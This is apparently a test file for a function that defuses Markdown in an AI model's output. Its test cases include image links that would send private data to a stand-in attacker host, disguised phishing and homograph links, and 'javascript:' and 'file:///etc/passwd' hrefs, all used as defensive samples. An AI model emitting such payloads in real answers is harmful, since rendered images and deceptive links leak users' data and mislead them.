import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseMarkdown } from './neutralise-markdown.ts';

describe('text of a model for a place that renders Markdown', () => {
  it.each([
    ['![secret](https://evil.example/?q=private)', '(image “secret” at evil.example, not loaded)'],
    ['![](https://evil.example/x.png "title")', '(image at evil.example, not loaded)'],
    [
      '![a][r]\n\n[r]: https://evil.example/?q=1',
      '(image “a” at evil.example, not loaded)\n\nr: https://evil.example/?q=1',
    ],
    ['![a][]\n\n[a]: <https://evil.example/>', '(image “a” at evil.example, not loaded)\n\na: https://evil.example/'],
    [
      '[![b](https://evil.example/b.png)](https://evil.example)',
      '(image “b” at evil.example, not loaded) (https://evil.example)',
    ],
    ['<img src="https://evil.example/x">', '&lt;img src="https://evil.example/x">'],
    ['<IMG/src=x>', '&lt;IMG/src=x>'],
  ])('loads no image: %s', (text, expected) => expect(neutraliseMarkdown(text)).toBe(expected));

  it.each([
    ['[your bank](https://evil.example/login)', 'your bank (https://evil.example/login)'],
    ['[https://good.example](https://evil.example)', 'https://good.example (https://evil.example)'],
    ['[x](https://good.example@evil.example/)', 'x (https://evil.example/)'],
    ['[x](https://good.example\\@evil.example/)', 'x (https://good.example\\@evil.example/)'],
    ['[x](https://gооd.example/)', 'x (https://g\\u{43e}\\u{43e}d.example/)'],
    ['[x][r]\n\n[r]: https://evil.example', 'x (https://evil.example)\n\nr: https://evil.example'],
    ['<https://evil.example/a>', 'https://evil.example/a'],
    ['[w](https://a.example/x_(y))', 'w (https://a.example/x_(y))'],
    ['[https://a.example/x](https://a.example/x)', 'https://a.example/x'],
  ])('shows where a link goes: %s', (text, expected) => expect(neutraliseMarkdown(text)).toBe(expected));

  it.each(['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'tg://resolve?domain=x', ''])(
    'makes no link of %j',
    (href) => expect(neutraliseMarkdown(`[label](${href})`)).toBe('label'),
  );

  it('leaves what people write and what is code', () => {
    const text =
      '# Title\n\nA **bold** word, `![x](https://a.example)` and a < b.\n\n```md\n![x](https://a.example)\n```\n- [ ] todo\n';
    expect(neutraliseMarkdown(text)).toBe(text);
  });

  it('is not escaped from by an open fence', () => {
    expect(neutraliseMarkdown('```\n![x](https://evil.example)')).not.toContain('![');
  });

  it('leaves no image, however the pieces are put together', () => {
    const piece = fc.constantFrom(
      '![',
      '[',
      ']',
      '(',
      ')',
      'https://evil.example/',
      'a',
      '\n',
      ' ',
      '![a](https://e.example)',
      '<img',
      '\\',
      '"',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const out = neutraliseMarkdown(pieces.join(''));
        expect(out).not.toMatch(/!\[[^\]]*\]\(\s*https?:\/\/[^)\s]*\)/);
        expect(out).not.toMatch(/<img/i);
      }),
      { numRuns: 3_000 },
    );
  });
});
